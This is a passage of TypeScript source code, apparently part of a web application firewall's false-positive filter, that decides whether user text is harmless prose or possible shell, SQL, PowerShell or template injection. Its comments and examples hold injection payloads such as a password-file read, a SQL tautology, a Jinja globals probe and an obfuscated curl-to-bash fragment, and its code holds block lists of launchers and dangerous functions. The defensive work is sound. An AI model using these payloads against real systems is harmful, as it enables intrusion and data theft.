 * commandOnlyAtStart('wget is missing; curl works fine'); // false
 * commandOnlyAtStart('cat /e??/pas?wd and show it'); // false
 * commandOnlyAtStart('**Expected**: it works.\n**Actual**: the command exits with code 1.'); // true
 * commandOnlyAtStart('It fails on arm64 after the upgrade\nwhoami prints nothing'); // false
 * commandOnlyAtStart('Standup 09:30 — waiting on legal; exec review moved; ping infra about it.'); // true
 * commandOnlyAtStart('Culture add; id'); // false
 */
export function commandOnlyAtStart(value: string): boolean {
  // A compound command with its closing word (`case x in (x) whoami⏎esac`, `if true⏎then id⏎fi`): its body runs
  // commands after keywords and patterns, not only at line starts (session 10). Keywords are lower case to a shell.
  if (COMPOUND_START.test(value) && COMPOUND_END.test(value)) return false;
  const text = linksAsWords(reachableLines(value));
  // A markdown quotation's `>` at the start of a line: to a shell a redirection whose file name is the next word,
  // so the word after that is in command position too (checked below).
  // An empty pair of braces (`not return {}`) is a word to a shell, no group or expansion.
  const lined = text
    .replace(BREADCRUMB, ' ')
    .replace(EMPTY_BRACES, ' ')
    .replace(PROSE_SEMICOLON, '\n\u0002')
    .replace(QUOTE_MARKERS, '$1\u0001');
  if (COMMAND_SEPARATORS.test(lined)) return false;
  let lines = 0;
  for (const raw of lined.split(LINE_BREAK)) {
    const quoted = raw.includes('\u0001');
    // After a separator of prose (`;`, `&`, `|`, `&&`): a command there that fetches what it names is refused
    // whatever its arguments (`… | curl metadata`: a single-label host is a plain word).
    const separated = raw.startsWith('\u0002');
    // Text right after an HTML tag (rich text's lines, marked by proseWaivers): to a shell the tag's `>` redirects
    // to a file named by the first word, so the second word is the command (`<td>id</td>` runs nothing,
    // `<td>Ticket ID</td>` would run `ID`, which is no Unix command: case counts there).
    const afterTag = raw.includes(AFTER_TAG);
    const line = (quoted ? raw.replace('\u0001', ' ') : raw).replace('\u0002', ' ').replace(AFTER_TAG, ' ');
    const tokens = line.split(/\s+/).filter((t) => t !== '');
    if (tokens.length === 0) continue;
    lines++;
    const first = commandWord(tokens[0] as string);
    if (separated && networkTool(first)) return false;
    // A destructive command as written (case counts: `Kill the bill` runs nothing) at any line's start.
    if (SEPARATED_REFUSED.has(commandWordAsWritten(tokens[0] as string))) return false;
    // `ping localhost` never ends: the blind injection's delay (`ping me`, `ping from my laptop` are prose).
    if (first === 'ping' && /^localhost\b/i.test(tokens[1] ?? '')) return false;
    if (quoted && tokens.length > 1) {
      const second = commandWord(tokens[1] as string);
      if (PROBE_COMMANDS.has(second) || START_LAUNCHERS.has(second) || LAUNCHERS.has(second)) return false;
    }
    // A launcher's first argument is the command it runs (`sudo prompt …` runs `prompt`): judged the same way.
    let command = 0;
    if (afterTag) {
      if (tokens.length === 1) continue;
      command = 1;
    }
    const base = command;
    // A subshell or a negation (`( id )`, `! id`) and a redirection with its file (`< 1 id`, `>out id`): the word
    // after them is in command position.
    for (;;) {
      const t = tokens[command] as string;
      if (command + 1 < tokens.length && /^[(!]+$/.test(t)) command++;
      else if (command + 2 < tokens.length && /^\(?[0-9]?(?:[<>]{1,2}|&>)$/.test(t)) command += 2;
      else if (command + 1 < tokens.length && /^\(?[0-9]?[<>]{1,2}[^<>\s]+$/.test(t)) command++;
      else break;
    }
    for (;;) {
      const word = commandWord(tokens[command] as string);
      // A delay is a probe with a duration (`sleep 10`); `Sleep Better Workshop` starts a title.
      if (
        PROBE_COMMANDS.has(word) &&
        (!DELAY_COMMANDS.has(word) || PLAIN_NUMBER.test(tokens[command + 1] ?? '0')) &&
        !(afterTag && UNIX_PROBES.has(word) && commandWordAsWritten(tokens[command] as string) !== word)
      )
        return false;
      if (!(START_LAUNCHERS.has(word) || LAUNCHERS.has(word))) break;
      if (command === base + 1 || command + 1 >= tokens.length) return false;
      command++;
    }
    // A markdown link (`[manual](https://…)`) is a plain argument unless the command fetches URLs.
    const links = !networkTool(commandWord(tokens[command] as string));
    for (let i = command + 1; i < tokens.length; i++) {
      const t = tokens[i] as string;
      if (!PLAIN_ARGUMENT_WORD.test(t) && !PLAIN_NUMBER.test(t) && !PLAIN_FIGURE.test(t) && !plainPair(t))
        if (!(links && (MARKDOWN_LINK.test(t) || SEARCH_QUALIFIER.test(t))) && !ABBREVIATION.test(t))
          if (!DEPENDENCY_MANIFEST.test(t.replace(/^[("“‘]+|[)"”’»,.!?:;…]+$/gu, '')))
            // A dependency manifest named in a sentence (`resolved the conflict in package-lock.json by …`).
            return false;
    }
  }
  return lines > 0;
}

// A quotation in prose: a quote after the start, a space or opening punctuation, a letter first, a letter or
// sentence punctuation last, up to 80 characters on one line without a quote of the same kind, a closing quote
// before the end, a space or closing punctuation.
const QUOTATION = /(^|[\s([])(['"])(\p{L}[^'"\n]{0,78}?[\p{L}.!?)])\2(?=$|[\s.,;:!?)\]])/gu;
const QUOTED_PLACEHOLDER = /(['"])\{[A-Za-z_][\w.]{0,40}\}\1/g;
// Words that make SQL of a quotation when the value lands inside a quoted SQL string (the quotation is then SQL
// code between two string literals).
const SQL_WORDS = new Set(
  (
    'or and xor not like rlike regexp is in between union select from where having order group by limit ' +
    'sleep benchmark waitfor delay true false null div mod exists case when then else end into insert update ' +
    'delete drop exec execute declare cast convert char concat sounds collate procedure ascii substring ' +
    'if ifnull version database user'
  ).split(' '),
);
// More words that continue an expression after a closed string (`'a' binary …`, `'a' escape …`).
const APOSTROPHE_SQL = new Set([
  'binary',
  'escape',
  'glob',
  'match',
  'against',
  'similar',
  'ilike',
  'notnull',
  'isnull',
]);
// SQL syntax that is not a quote: comments, escapes, operators, a function call or parenthesised expression, a
// value that starts with something else than a word or a quotation, encoded quotes and backslashes.
const SQL_NON_QUOTE_SYNTAX = /[`\\#=<>|^~@]|--|\/\*|\*\/|%2[27]|%5c|[\p{L}\p{Nd}_]\s*\(|^\s*[^\p{L}\s'"]/iu;
// The same without comparison operators, for a sentence that starts with two plain words (`I tried to filter by
// date > 2025-12-31 …`; session 9): no numeric or identifier context parses past them, so an operator later on
// compares nothing; the quote judgement still covers string contexts.
const SQL_NON_QUOTE_SYNTAX_AFTER_WORDS = /[`\\#|^~@]|--|\/\*|\*\/|%2[27]|%5c|[\p{L}\p{Nd}_]\s*\(/iu;
const TWO_WORDS = /^\s*(\p{L}+)\s+(\p{L}+)\s/u;

// SQL operators and functions that make an expression of words (session 9 audit 13: `price div 1 or length
// (password) > 5`, `price xor true or 2 > 1`).
const SQL_EXPRESSION_WORD =
  /\b(?:div|mod|xor|rlike|regexp|sounds|length|char_length|ascii|ord|hex|bin|substr|substring|mid|left|right|char|chr|concat|if|ifnull|nullif|coalesce|case|when|then|sleep|benchmark|waitfor|delay|select|union|from|where|having|exists|cast|convert|version|database|user|schema|count|sum|min|max|avg|row|rand|floor|exp|pi|abs|sign)\b/i;

/**
 * True when the text starts with two bare words that are no SQL or code keywords and holds no SQL operator or
 * function word ({@link SQL_EXPRESSION_WORD}).
 */
function startsWithTwoWords(text: string): boolean {
  const m = TWO_WORDS.exec(text);
  if (m === null || SQL_EXPRESSION_WORD.test(text)) return false;
  const a = (m[1] as string).toLowerCase();
  const b = (m[2] as string).toLowerCase();
  return !SQL_GLUE.has(a) && !SQL_GLUE.has(b) && !CODE_WORDS.has(a) && !CODE_WORDS.has(b);
}
const SELF_NEGATION = /\b([\p{L}_][\p{L}\p{N}_.]*)\s+(?:or|\|\|)\s+(?:not\s+|!\s*)\(?\s*\1\b/iu;
// Statement shapes, never waived (other CRS rules look for them too).
const SQL_STATEMENT =
  /\bunion\b[\s\S]*\bselect\b|\bselect\b[\s\S]*\bfrom\b|\binsert\s+into\b|\bdelete\s+from\b|\bdrop\s+(?:table|database)\b|\bwaitfor\s+delay\b|\bupdate\s+\w+\s+set\b/i;

/**
 * True when the SQL that the text could make is inert: in a numeric or identifier context a sentence starting with
 * a word and without operators, comments or calls is no expression (and a `;` only ends parts with two bare words
 * in a row, {@link noStackedQuery}); in a quoted-string context every quote must be a word's apostrophe (`it's`,
 * `O'Connor`) or delimit a prose quotation (`'Having trouble?'`, `"Select all"`), whose content becomes SQL code
 * between two string literals: it may hold at most one SQL word and no digit, and the text after it must not
 * start with a digit or sign (`'or' 1` would be `'…' or ' 1…'`, true in MySQL; `'or' is my …` is false or an
 * error). Statement shapes (`union … select`, `select … from`, `insert into`, …) are never inert here.
 * @example
 * proseQuotesInert("Having fun with Rust & Go; 'or' is my favourite keyword."); // true
 * proseQuotesInert("Hi 'or 1 or' there friend"); // false
 */
export function proseQuotesInert(text: string): boolean {
  // A term or-ed with its own negation (`trashed or not trashed`: true for every row; session 10 audit 18).
  if (SELF_NEGATION.test(text)) return false;
  // A word, a space and a parenthesis of prose (`Investor call (do not disturb!!)`; session 9) is no call when
  // every parenthesis holds inert prose (family f's judgement) and none is a delay.
  const calls =
    text.includes('(') && inertParentheses(text) && !DELAY_CALL.test(text) && !SQL_EXPRESSION_WORD.test(text)
      ? text.replace(/([\p{L}\p{Nd}_])\s+\(/gu, '$1 [')
      : text;
  const syntax = startsWithTwoWords(text) ? SQL_NON_QUOTE_SYNTAX_AFTER_WORDS : SQL_NON_QUOTE_SYNTAX;
  if (syntax.test(calls) || SQL_STATEMENT.test(text) || !noStackedQuery(text)) return false;
  return quotesInert(text);
}

/** The quote judgement of {@link proseQuotesInert} alone: apostrophes and inert prose quotations only. */
function quotesInert(text: string): boolean {
  let ok = true;
  const rest = text
    // A quoted placeholder of a message format (`delete '{workspace}'?`): a name in braces.
    .replace(QUOTED_PLACEHOLDER, 'x')
    // An apostrophe between letters is a word's (`it's`, `O'Connor`) unless a SQL operator word touches it: a
    // string context would end there and go on with that word (`a'or password like's%`; session 9 audit 14).
    .replace(/(?<=\p{L})'(?=\p{L})/gu, (_q, at: number, all: string) => {
      const before = /\p{L}+$/u.exec(all.slice(Math.max(0, at - 20), at))?.[0].toLowerCase() ?? '';
      const after = /^\p{L}+/u.exec(all.slice(at + 1, at + 21))?.[0].toLowerCase() ?? '';
      if (
        SQL_WORDS.has(before) ||
        SQL_WORDS.has(after) ||
        APOSTROPHE_SQL.has(before) ||
        APOSTROPHE_SQL.has(after)
      )
        ok = false;
      return '';
    })
    .replace(QUOTATION, (m, pre: string, _q: string, content: string, at: number, all: string) => {
      let sql = 0;
      for (const w of content.toLowerCase().split(/[^\p{L}]+/u)) if (SQL_WORDS.has(w)) sql++;
      const after = all.slice(at + m.length).trimStart();
      if (sql > 1 || /\p{Nd}/u.test(content) || /^(?:[\p{Nd}+-]|\.\p{Nd})/u.test(after)) ok = false;
      return `${pre}${content}`;
    });
  return ok && !/['"]/.test(rest);
}

// A status line of numbers: letters, digits, spaces, `. , : % ( ) + - * / # @` and anything outside ASCII (emoji,
// arrows, typographic punctuation); no quote, backtick, backslash, `;`, comparison or logic operator.
const ARITHMETIC_CHARS = /^[\p{L}\p{M}\p{N}\s.,:%()+\-*/#@\u0080-\u{10ffff}]*$/u;
// A word next to an arithmetic operator: arithmetic over a column (`1+balance%2` leaks a column bit by bit).
const WORD_BY_OPERATOR = /\p{L}\s*[%+*/-]|[%+*/-]\s*\p{L}/u;

/**
 * True when the text can only be arithmetic over numbers if it lands in SQL (family `q` for values that are not
 * prose, such as CI status lines): it has a digit and an arithmetic sign or parenthesis (what libinjection reads
 * as an expression: `Coverage 87.4% (+0.3%)` is `n1o(1`), only the characters of {@link ARITHMETIC_CHARS}, no
 * word next to an operator (no arithmetic over a column), and no SQL keyword or function among its words. Without
 * a quote it cannot leave a string literal; in a numeric context a word next to a number without an operator is a
 * syntax error, so what remains is arithmetic over literals.
 * @example
 * arithmeticOnly('Coverage 87.4% (+0.3%)'); // true
 * arithmeticOnly('1+balance%2'); // false
 * arithmeticOnly('1 or (2)'); // false
 */
export function arithmeticOnly(text: string): boolean {
  if (!/\p{Nd}/u.test(text) || !/[%+*/()-]/.test(text)) return false;
  if (!ARITHMETIC_CHARS.test(text) || WORD_BY_OPERATOR.test(text)) return false;
  for (const w of text.split(/[^\p{L}\p{N}_]+/u)) {
    if (!/\p{L}/u.test(w)) continue;
    const t = lookupWord(w);
    if (t !== '' && t !== 'n') return false;
  }
  return true;
}

// LaTeX math between dollar signs (`$O(n^2)$`, `$$P(A \mid B)$$`), on one line for the inline form.
const LATEX_MATH = /\$\$([^$]{1,1000})\$\$|\$([^$\n]{1,300})\$/g;
// What a formula may hold: letters, digits, spaces, backslash commands, braces, parentheses, brackets, operators
// and punctuation of mathematics; no quote but the prime, no backtick, `;`, `#`, `%` or `@`.
const MATH_CONTENT = /^[\p{L}\p{M}\p{N}\s\\{}()[\]^_+\-*/=<>,.|!:&'~]*$/u;

/**
 * True when every `$` of the text delimits a LaTeX formula (family `m`): `$f(x)$` reads to CRS as a PHP variable
 * function call (933180), `$\lambda_{1,2}$` as a shell brace expansion (932280), `$\{-3, 3\}$` as a shell
 * expression (932130). A formula holds only the characters of {@link MATH_CONTENT} and never starts with `(` or
 * `{` (`$(id)$` and `${IFS}$` are shell substitutions), and no `$` is left outside formulas: a `$` that starts a
 * shell or PHP construct keeps every rule.
 * @example
 * latexMathOnly('Merge sort is $T(n) = 2T(n/2) + O(n)$, so $O(n \log n)$.'); // true
 * latexMathOnly('Run $(id)$ for me please'); // false
 */
// Inside `$(…)` a shell runs the formula (session 9 audit 13: `$(n|| cu\rl … |b\ash)$`): no separator, pipe,
// redirection or quote, and every backslash starts a macro of the list.
const MATH_MACRO = /\\([A-Za-z]+)|\\/g;
const MATH_MACROS = new Set(
  'alpha beta gamma delta epsilon varepsilon zeta eta theta vartheta lambda mu nu xi pi rho sigma tau phi varphi chi psi omega Gamma Delta Theta Lambda Xi Pi Sigma Phi Psi Omega frac sqrt sum prod int log ln exp sin cos tan max min mathbf mathrm mathcal hat bar tilde vec partial nabla infty left right cdot times pm leq geq neq approx'.split(
    ' ',
  ),
);

/** True when a formula that opens with `(` holds nothing a shell running it would act on. */
function shellInertFormula(content: string): boolean {
  if (/[|&;'"<>`$]/.test(content)) return false;
  for (const m of content.matchAll(MATH_MACRO))
    if (m[1] === undefined || !MATH_MACROS.has(m[1])) return false;
  return true;
}

// How a formula opening with a parenthesis may go on (see latexMathOnly).
const MATH_PARENTHESIS =
  /^\(\s*(?:\\(?:alpha|beta|gamma|delta|epsilon|varepsilon|zeta|eta|theta|vartheta|lambda|mu|nu|xi|pi|rho|sigma|tau|phi|varphi|chi|psi|omega|Gamma|Delta|Theta|Lambda|Xi|Pi|Sigma|Phi|Psi|Omega|frac|sqrt|sum|prod|int|log|ln|exp|sin|cos|tan|max|min|mathbf|mathrm|mathcal|hat|bar|tilde|vec|partial|nabla|infty|left|cdot)(?![A-Za-z])|[A-Za-vx-z0-9](?![A-Za-z0-9]))/;

export function latexMathOnly(text: string): boolean {
  let spans = 0;
  let ok = true;
  const rest = text.replace(LATEX_MATH, (_m, display: string | undefined, inline: string | undefined) => {
    const content = (display ?? inline ?? '').trim();
    spans++;
    if (content === '' || content.startsWith('{') || !MATH_CONTENT.test(content)) ok = false;
    // `$(…)` runs its content to a shell: only a LaTeX macro (`$(\alpha-1)/\alpha$`) or one letter or digit
    // (`$(n-1)!$`) may open it, no command name (`$(id)$`, `$(\id)$`; session 9).
    if (content.startsWith('(') && !(MATH_PARENTHESIS.test(content) && shellInertFormula(content)))
      ok = false;
    return ' ';
  });
  return ok && spans > 0 && !rest.includes('$');
}

// What PowerShell (and cmd.exe) need for a cmdlet name in a value to run: a statement separator or pipeline
// (`;`, `|`, `&`; a line break too, checked line by line in powershellInert), a subexpression, script block or splat (`(`, `{`, `$`, `@`), a redirection or
// comment block, a cmd.exe variable (`%…%`), NUL; quotes too (ASCII and the typographic ones PowerShell also takes
// as quotes; the canonical view has already made the latter spaces), although after a string break-out PowerShell
// is in expression mode, where a cmdlet runs only inside `(…)`, `$(…)` or after a separator.
const POWERSHELL_SYNTAX = /[;|&(){}$@'"<>%\0\u2018\u2019\u201a\u201b\u201c\u201d\u201e]/;
// First words that run their arguments as a command (shells, launchers, call operators): a value starting with one
// of them, or with a cmdlet-like `Verb-Noun` word, puts a cmdlet name in command position.
const LAUNCHERS = new Set(
  (
    'powershell pwsh cmd command start call iex icm saps invoke-expression invoke-command start-process runas wsl ' +
    'bash sh zsh dash ksh env sudo doas su nohup exec xargs time timeout watch nice'
  ).split(' '),
);

const POWERSHELL_FILE = /^[A-Za-z0-9_-]{1,64}\.(?:powershell|ps1|psm1|psd1)$/i;
// The nouns of a title naming the shell (`powershell snippet`): `powershell <word>` runs any program or alias of
// that name (`powershell calc`, `powershell spsv WinDefend`; session 10 audit 17), so only words no Windows
// program, cmdlet or alias is named.
const POWERSHELL_TITLE_WORDS = new Set(
  (
    'snippet snippets example examples sample samples script scripts tip tips question questions cheatsheet ' +
    'tutorial tutorials guide guides basics notes demo demos course training lesson lessons exercise exercises'
  ).split(' '),
);

/** A title that is `powershell` or `pwsh` and one or two title nouns (see proseFamilies). */
function powershellTitle(text: string): boolean {
  const m = /^(?:powershell|pwsh)((?:[ \t]+[A-Za-z]{2,30}){1,2})$/i.exec(text);
  if (m === null) return false;
  return (m[1] as string)
    .trim()
    .split(/\s+/)
    .every((w) => POWERSHELL_TITLE_WORDS.has(w.toLowerCase()));
}

/**
 * True when no PowerShell cmdlet name in the text can run (family `p`, CRS 932120, whose list of cmdlet names fires
 * on the word alone): the text has none of the syntax a cmdlet needs to start a statement or a subexpression
 * ({@link POWERSHELL_SYNTAX}) and its first word is neither a `Verb-Noun` cmdlet-like word nor a launcher
 * (`powershell`, `cmd`, `iex`, `start`, …). A cmdlet name elsewhere in it is then an argument of the first
 * command, whatever context the value lands in: a script, an argument list, or a quoted string.
 * @example
 * powershellInert('On Windows use `Remove-Item` instead of rm.'); // true
 * powershellInert('Remove-Item the build folder before you start again'); // false
 * powershellInert('Hi team; Remove-Item C:/data -Recurse is what I ran'); // false
 * powershellInert('retrying job export-csv (attempt 3/5): exit status 1'); // true
 * powershellInert('the report said (Remove-Item C:/data) and then stopped'); // false
 */
export function powershellInert(text: string): boolean {
  // A parenthesis of prose (`export-csv (attempt 3/5)`) is a subexpression whose first word is in command
  // position (session 8): inert when that word is no cmdlet-like word or launcher and it holds no other syntax.
  if (text.includes('(')) {
    let inert = true;
    text = text.replace(/\(([^()]{0,200})\)/g, (_, inner: string) => {
      const first = (inner.trim().split(/\s+/)[0] as string).replace(
        /^[^\p{L}\p{Nd}]+|[^\p{L}\p{Nd}]+$/gu,
        '',
      );
      if (POWERSHELL_SYNTAX.test(inner) || first.includes('-') || LAUNCHERS.has(first.toLowerCase()))
        inert = false;
      return ' ';
    });
    if (!inert) return false;
  }
  if (POWERSHELL_SYNTAX.test(text)) return false;
  let lines = 0;
  // A line break ends a statement: the first word of every line is in command position.
  for (const line of text.split(LINE_BREAK)) {
    const word = line.trim().split(/\s+/)[0] as string;
    if (word === '') continue;
    lines++;
    // A label (`PowerShell: how to …`) names no command: the colon is part of the word PowerShell and cmd.exe
    // would look up (a drive or a file name that cannot exist).
    if (/^[\p{L}][\p{L}\p{Nd}-]*:$/u.test(word)) continue;
    const first = word.replace(/^[^\p{L}\p{Nd}]+|[^\p{L}\p{Nd}]+$/gu, '');
    if (first.includes('-') || LAUNCHERS.has(first.toLowerCase())) return false;
  }
  return lines > 0;
}

// What a parenthesis of prose holds: words, numbers, formulas (`−Ea/RT`, `n − 1`, `B = 10 000`), menu paths
// (`DevTools > Network`), punctuation of a sentence and quotes (judged by proseQuotesInert); no nested parenthesis, statement separator, variable,
// substitution, markup, bracket or escape.
const INERT_PARENTHESIS = /\(([\p{L}\p{M}\p{N}\p{Sc}\s.,:+\-−–—*/×·^%=~≈±°#@!?'’"“”‘<>→]{0,200})\)/gu;

// A path glob (`staging/*`, `docs/**`: an environment scope, a branch or route pattern), an ISO 8601 date range
// with `--` (`2026-01-01--2026-03-31`) and a cron schedule.
// Two segments at least (session 9 audit 13: `id/*` is a column name and an unterminated comment that cuts off the
// rest of a statement, a tenant filter included).
// (And every segment holds a letter: `id/1/*` is a division before the comment; audit 14.)
// (And no `*` between two word characters: `id/id*id/*` is arithmetic before the comment; audit 15.)
const PATH_GLOB = /^(?!.*\w\*+\w)[A-Za-z][\w.-]{0,63}(?:\/(?=[\w.*-]*[A-Za-z])[\w.*-]{1,64}){1,8}\/\*{1,2}$/;
// A cron schedule (`*/5 * * * *`, `0 7 * * MON-FRI`; session 8): five or six fields of numbers, steps, ranges,
// lists and day or month names.
const CRON_NAME = '(?:MON|TUE|WED|THU|FRI|SAT|SUN|JAN|FEB|MAR|APR|MAY|JUN|JUL|AUG|SEP|OCT|NOV|DEC)';
const CRON_FIELD = String.raw`(?:\*|[0-9]{1,2}(?:-[0-9]{1,2})?|${CRON_NAME}(?:-${CRON_NAME})?)(?:\/[0-9]{1,2})?(?:,(?:[0-9]{1,2}(?:-[0-9]{1,2})?|${CRON_NAME}))*`;
const CRON = new RegExp(`^${CRON_FIELD}(?: ${CRON_FIELD}){4,5}$`, 'i');
// A cron schedule quoted in prose (`cron is every 5 min, ok? "*/5 * * * *"`): a word to the prose judgement.
const CRON_IN_TEXT = new RegExp(
  `(^|[\\s(\`])(["']?)${CRON_FIELD}(?: ${CRON_FIELD}){4,5}\\2(?=$|[\\s),.?!\`])`,
  'gi',
);
const DATE_RANGE =
  /^[0-9]{4}-[0-9]{2}-[0-9]{2}(?:T[0-9:.]{2,12}Z?)?--[0-9]{4}-[0-9]{2}-[0-9]{2}(?:T[0-9:.]{2,12}Z?)?$/;

/**
 * True when the whole value is a path glob, a date range or a cron schedule (family `g`): words and dates around `/*` or `--`, which
 * libinjection reads as a comment. No quote, operator or keyword can be part of one.
 * @example
 * inertToken('staging/*'); // true
 * inertToken('1/*'); // false
 */
export function inertToken(text: string): boolean {
  return PATH_GLOB.test(text) || DATE_RANGE.test(text) || CRON.test(text);
}

// A delay call with a bare number (`sleep(5)`, `pg_sleep(10)`): the time-based probe, never waived.
// A delay call whose argument is one token or an expression (`sleep (1.5e0)`, `sleep (owner_id div 5)`; session 9
// audit 13), not a prose aside (`Science of sleep (45 min)`).
const DELAY_CALL =
  /\b(?:sleep|pg_sleep|benchmark|waitfor)\s*\(\s*(?:[^\s()]*\s*|[^()]*(?:[*/%+=<>,-]|\b(?:div|mod|and|or|xor)\b)[^()]*)\)/i;
// `union` followed by `select` within 24 characters (`all`/`distinct`, spaces, comments, parentheses or quotes
// between): the statement shape 942270 looks for.
const UNION_SELECT = /\bunion[\s\S]{0,24}?select/i;

/** True when 942270 (`union.*?select.*?from`) could fire on the text but `union` is not followed by `select`. */
function mayUnionSelect(text: string): boolean {
  // `union … select … from` in that order, found with three scans (a backtracking regex would be quadratic).
  const lower = text.toLowerCase();
  const u = lower.indexOf('union');
  const sel = u === -1 ? -1 : lower.indexOf('select', u + 5);
  return sel !== -1 && lower.includes('from', sel + 6) && !UNION_SELECT.test(text);
}

// A double-brace template tag (Handlebars, Mustache, Jira smart values), with an optional block marker.
const TEMPLATE_TAG = /\{\{([^{}]{0,300})\}\}/g;
// A method chain over data: names, dots, calls with literal, name or nested-call arguments, commas, spaces,
// filters (`| float`) and comparisons (`< 5`); no arithmetic (`7*7` is the probe). Names and numbers cannot be
// split into two (the lookaheads), so a failing match costs linear time, not exponential.
// Session 9: a Zapier field reference (`{{1__body_plain}}`: step 1's `body_plain`) is a name too, and so is an n8n
// variable (`$json.status`), with JavaScript's logic and comparison operators (`a || "" !== "closed" ? b : c`).
const TEMPLATE_CHAIN =
  /^(?:[0-9]{1,3}__[A-Za-z0-9_]{1,64}(?![A-Za-z0-9_])|\$?[A-Za-z][A-Za-z0-9_]*(?![A-Za-z0-9_])|[0-9]+(?:\.[0-9]+)?(?![0-9.])|"[^"\\{}<>$`%]{0,40}"|'[^'\\{}<>$`%]{0,40}'|[.(),|\s]|[<>]=?|[=!]==?|&&|[?:!])*$/;
// Names that walk from data to the runtime, reflection, the file system or a process (and a call of a call's
// result): never inert, whatever the template language.
const TEMPLATE_RUNTIME =
  /(?<![0-9])__|__(?![A-Za-z0-9])|\)\s*\(|\b(?:this|globalThis|window|document|Reflect|Proxy|Object|Symbol|constructor|prototype|class|getClass|forName|classLoader|self|_self|config|request|env|environ|getRuntime|runtime|exec|execute|system|popen|spawn|eval|import|require|process|processBuilder|cycler|lipsum|joiner|namespace|globals|builtins|subclasses|mro|os|sys|subprocess|registerUndefinedFilterCallback|getFilter|setAttribute|getAttribute|attr|map|invoke|newInstance|Function|call|apply|bind|passthru|shell_exec|proc_open|pcntl_exec|assert|call_user_func|create_function)\b|\|\s*(?:filter|map|reduce|sort|find|column)\s*\(\s*['"]/i;

/**
 * True when every `{{ … }}` tag of the text is a method chain over data ({@link TEMPLATE_CHAIN}) that names
 * nothing of the runtime ({@link TEMPLATE_RUNTIME}) and the text has no other template delimiter (`#{`, `<%`) or
 * unclosed tag (family `t`: CRS 934200 reads a call inside `{{ }}` as template injection).
 * @example
 * templateCallsInert('Due {{issue.duedate.plusBusinessDays(3).jiraDate}}, please update'); // true
 * templateCallsInert('{{ self.__init__.__globals__ }}'); // false
 */
export function templateCallsInert(text: string): boolean {
  if (text.includes('#{') || text.includes('<%')) return false;
  let ok = true;
  const rest = text.replace(TEMPLATE_TAG, (_m, tag: string) => {
    const body = tag.trim().replace(/^[#/]\s*/, '');
    if (!TEMPLATE_CHAIN.test(body) || TEMPLATE_RUNTIME.test(body)) ok = false;
    return ' ';
  });
  return ok && !rest.includes('{{');
}

/**
 * True when every parenthesis of a prose text is inert ({@link INERT_PARENTHESIS}) and balanced (family `f`: the
 * function-name lists of CRS 933160 and 942151 fire on `exp(−Ea/RT)`, `Please quote (incl. VAT)`). A call in
 * prose with such arguments cannot be PHP or SQL that runs: four or more words are no PHP statement, and without a
 * quote break-out (family q's quote judgement, also required, with no statement shape) no SQL string is left.
 * @example
 * inertParentheses('Rates follow k = A·exp(−Ea/RT), with Ea in kJ (per mole).'); // true
 * inertParentheses('Please run system($_GET[c]) now'); // false
 */
export function inertParentheses(text: string): boolean {
  const rest = text.replace(INERT_PARENTHESIS, ' ');
  return !rest.includes('(') && !rest.includes(')');
}

// A token of a search box's query syntax: an optionally negated quoted phrase or word, a boolean operator, a
// parenthesis, a `field:value` qualifier (`is:open`, `in:#deploys`, `from:@jonas.meyer`, `repo:acme/api`,
// `!user.email:*@acme.io`).
const SEARCH_TOKEN =
  /\s*(?:(?:(-?"(?:[^"'\\\n]|(?<=\p{L})'(?=\p{L})){1,100}")|([-!]?[A-Za-z][\w.-]{0,30}:(?:"[^"'\\\n]{1,60}"|[#@]?[\p{L}\p{N}_./*@+-]{1,80}))|(-?[\p{L}\p{N}][\p{L}\p{N}_.*+-]{0,63}))(?=[\s()]|$)|([()]))/uy;
// Statement, delay and database words: never outside a phrase.
const SEARCH_FORBIDDEN =
  /^(?:select|union|insert|update|delete|drop|truncate|alter|create|exec|execute|declare|sleep|benchmark|waitfor|pg_sleep|having|information_schema)$/i;

/**
 * True when the value is a search box's query (family `q`: libinjection reads `"drop-down" AND (export OR csv)`
 * and `is:open "order by" in:title` as SQL): quoted phrases (no quote or backslash inside but a word's
 * apostrophe), words, `AND`/`OR`/`NOT`, balanced parentheses and `field:value` qualifiers only, with at least two
 * tokens one of which is a phrase, a qualifier or a parenthesis; no statement, delay or database word outside a
 * phrase, no boolean operator next to a number or truth value, no call (`char(58)`), no operator, comment or
 * separator anywhere.
 * @example
 * searchExpressionOnly('"drop-down" AND (export OR csv)'); // true
 * searchExpressionOnly('x" OR 1=1 --'); // false
 */
export function searchExpressionOnly(text: string): boolean {
  // Search syntax is a phrase, a qualifier or a group: one of `"`, `:`, `(` at least.
  if (text.length > 500 || !/["(:]/.test(text)) return false;
  let at = 0;
  let depth = 0;
  let tokens = 0;
  let syntax = false;
  let qualifier = false;
  let previous = '';
  while (text.slice(at).trim() !== '') {
    SEARCH_TOKEN.lastIndex = at;
    const m = SEARCH_TOKEN.exec(text);
    if (m === null || m[0].length === 0) return false;
    at = SEARCH_TOKEN.lastIndex;
    tokens++;
    if (m[2] !== undefined && tokens === 1) qualifier = true;
    // A phrase's content is SQL code in a double-quoted string context (MySQL, SQLite; session 9 audit 14: `"
    // AND 0 UNION SELECT version() " x`): at most one SQL word, no digit, operator or parenthesis.
    if (m[1] !== undefined && !phraseInert(m[1])) return false;
    const word = m[3]?.replace(/^-/, '').toLowerCase();
    if (word !== undefined) {
      if (SEARCH_FORBIDDEN.test(word)) return false;
      // A boolean operator next to a number or a truth value is a tautology's shape (`"x" OR 1`).
      const logic = /^(?:and|or|not|xor)$/;
      const literal = /^(?:[0-9.]+|true|false|null)$/;
      if ((logic.test(word) && literal.test(previous)) || (literal.test(word) && logic.test(previous)))
        return false;
      previous = word;
    } else {
      syntax = true;
      previous = '';
    }
    if (m[4] === '(') {
      // A group follows an operator or another group; `char(58)` is a function call.
      if (/[^\s(]\($/.test(text.slice(0, at))) return false;
      depth++;
    } else if (m[4] === ')' && --depth < 0) return false;
  }
  // Words alone are prose, judged as such; a search expression has a phrase, a qualifier or a group. One
  // qualifier alone is a search too (`user_text:"select plan"`; session 9).
  return depth === 0 && (tokens >= 2 || qualifier) && syntax;
}

/** True when a quoted search phrase's content could not continue a SQL expression (see searchExpressionOnly). */
function phraseInert(phrase: string): boolean {
  const content = phrase.replace(/^-?"|"$/g, '');
  if (/[=<>()|&!+%^~#;`]|--|\/\*|@@/.test(content)) return false;
  let sql = 0;
  for (const w of content.toLowerCase().split(/[^\p{L}_]+/u)) if (PHRASE_SQL.has(w)) sql++;
  // A number next to a logic word is a tautology's operand (`" or 1 "`).
  return sql === 0 || (sql === 1 && !/[0-9]/.test(content));
}
// Words that make a condition of what follows a closed string (`order by` only sorts by a constant).
const PHRASE_SQL = new Set(
  (
